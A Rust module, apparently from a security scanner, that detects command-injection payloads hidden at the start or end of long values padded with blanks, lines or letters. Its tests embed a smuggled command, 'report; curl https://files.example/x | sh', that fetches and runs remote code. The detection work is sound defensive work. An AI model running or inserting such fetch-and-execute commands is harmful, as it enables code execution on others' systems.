//! A value that breaks out into a command and is filled up with blanks, lines or letters, so that it looks like a document.

use std::ops::Range;

use super::behind::Attacks;
use super::command::attack;
use super::glance;
use super::injection::{Host, SIGNS_MAX, calls_shell, host, next_sign, sign_length, starts_with_command};
use crate::threats::code::ends::{ends, outer_lines};

/// Where the first or the last line of a long value breaks out. Documents tell of commands, and scripts are made of them; so only
/// an attack counts that stands behind a value's sign, in a line that is neither prose nor a command itself.
pub(super) fn find(text: &str) -> Option<Range<usize>> {
    let parts = outer_lines(text).flat_map(|line| ends(text, line));
    parts.into_iter().find_map(|part| {
        let found = in_part(&text[part.clone()])?;
        Some(part.start + found.start..part.start + found.end)
    })
}

fn in_part(part: &str) -> Option<Range<usize>> {
    if !glance::may_attack(part, true) {
        return None;
    }
    if starts_with_command(part) {
        return if calls_shell(part) { attack(part) } else { None };
    }
    let mut attacks = Attacks::new(part);
    let mut at = 0;
    for _ in 0..SIGNS_MAX {
        let sign = next_sign(part.as_bytes(), at)?;
        at = sign + sign_length(part.as_bytes(), sign);
        if host(part[..sign].trim(), false) != Host::Value {
            return None;
        }
        let start = match part.as_bytes()[sign] {
            // Markdown's.
            b'`' => continue,
            b'$' => sign,
            _ => part.len() - part[at..].trim_start_matches([' ', '\t', '(']).len(),
        };
        if let Some(end) = attacks.at(start) {
            return Some(sign..start + end);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn padding_hides_nothing() {
        let attack = "report; curl https://files.example/x | sh";
        for text in [
            format!("{attack}{}x", " ".repeat(3000)),
            format!("{attack}\na\nb\nc\nd"),
            format!("a\nb\nc\nd\n{attack}"),
            format!("{}{attack}", "a".repeat(3000)),
            format!("{attack}; {}", "a".repeat(3000)),
        ] {
            assert!(find(&text).is_some(), "{text}");
        }
    }

    #[test]
    fn documents_are_left_alone() {
        for text in [
            "#!/bin/sh\nset -e\ncurl -O https://files.example/x\nrm -rf build\nmake\n",
            "Run `curl https://files.example/x | sh`\nthen\nwait\nand\nsee",
            "In the first place you may want to know; curl https://files.example/x | sh\nis\nnot\nwhat\nto do",
            "",
        ] {
            assert_eq!(find(text), None, "{text}");
        }
    }
}
